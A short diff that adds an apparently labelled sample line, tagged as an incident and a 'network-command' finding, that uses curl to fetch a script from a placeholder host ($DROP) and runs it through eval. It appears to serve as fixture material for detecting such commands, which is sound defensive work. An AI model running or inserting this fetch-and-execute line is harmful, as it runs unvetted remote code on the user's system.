@@ -1,0 +1,4 @@
+# incident: the same by eval
+# finding: network-command
+# needs: curl
+eval "$(curl -fsSL "http://$DROP/raw/command.sh")"
